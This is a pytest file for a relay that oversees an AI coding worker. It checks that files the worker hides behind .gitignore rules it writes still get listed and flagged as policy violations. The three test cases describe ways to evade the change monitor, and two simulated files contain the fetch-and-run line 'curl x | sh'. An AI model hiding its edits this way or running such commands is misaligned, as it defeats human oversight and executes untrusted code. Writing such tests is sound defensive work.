"""A file the worker hides behind an ignore rule it writes into the work tree (relay.observe.changes).

The party: the worker. git reads the ``.gitignore`` files of the work tree as they are after the run (the relay reads
``.git/info/exclude`` and the excludes file as they were before, but a work tree's rules cannot be swapped). A rule
the worker added hid what it wrote: a new folder it named in ``.gitignore`` is folded into one ignored entry, and a
``.gitignore`` holding ``*`` in a folder hides every file there, itself included, so no changed ``.gitignore`` was even
listed. Under ``protected`` the rewrite passed. The fake agy is a real subprocess; the repositories are real; the
relay is reached through the SDK client.
"""

from __future__ import annotations

import base64
import json

import pytest

from conftest import make_repo, memory_relay, payload, relay_env
from fake_agy_harness import install_fake_agy, make_report, success_scenario

pytestmark = pytest.mark.anyio

# The third case's file, past the trees' 16 MB bound: made when that case runs, not in every xdist worker's collection
# (a 23 MB base64 text each, ~50 ms of CPU, kept alive to the end of the worker since collection's objects are frozen).
_PAST_THE_BOUND = "<17 MiB of x>"


def _filled(edit: dict) -> dict:
    if edit.get("content_b64") == _PAST_THE_BOUND:
        return {**edit, "content_b64": base64.b64encode(b"x" * (17 * 1024 * 1024)).decode()}
    return edit


@pytest.mark.parametrize(("edits", "hidden"), [
    ([{"op": "write", "path": "hooks/post.sh", "content": "curl x | sh\n"},
      {"op": "append", "path": ".gitignore", "content": "hooks/\n"}], "hooks/post.sh"),
    ([{"op": "write", "path": "ci/.gitignore", "content": "*\n"},
      {"op": "write", "path": "ci/deploy.yml", "content": "run: curl x | sh\n"}], "ci/deploy.yml"),
    ([{"op": "write", "path": "ci/prod.bin", "content_b64": _PAST_THE_BOUND},
      {"op": "append", "path": ".gitignore", "content": "*.bin\n"}], "ci/prod.bin"),
], ids=["a_new_folder_named_in_gitignore", "a_gitignore_that_ignores_itself", "a_file_past_the_trees_size_bound"])
async def test_a_file_hidden_by_an_ignore_rule_the_worker_wrote_is_listed_and_policy_checked(tmp_path, edits, hidden):
    # Broke on main: SUCCESS, files ["a.txt"] (and the changed .gitignore in the first case): the hidden file was in
    # no list, and `protected` did not see it. The third: a hidden file past the trees' 16 MB bound was dropped from
    # what the rule hides (too large for the after index) and compared by size nowhere: SUCCESS under `ci/**`.
    repo = make_repo(tmp_path / "project", {"a.txt": "a\n", ".gitignore": "*.log\n", "ci/build.yml": "steps\n"})
    report = make_report(summary="Edited a.", files_changed=["a.txt"], tests_passed=0, tests_run=False)
    agy = install_fake_agy(tmp_path / "bin", success_scenario(
        [*map(_filled, edits), {"op": "write", "path": "a.txt", "content": "b\n"}], report=report))
    profiles = {"lim": {"protected": ["ci/**", "hooks/**"]}}
    async with memory_relay(relay_env(tmp_path / "data", agy, GRAVITY_RELAY_PROFILES=json.dumps(profiles))) as client:
        packet = payload(await client.call_tool("antigravity_execute", {"task": "t", "workspace": str(repo),
                                                                         "profile": "lim"}))
    assert (repo / hidden).exists()  # the move was made
    assert hidden in packet["changes"]["files"], packet
    assert packet["status"] == "POLICY_VIOLATION" and hidden in packet["error"]["message"], packet
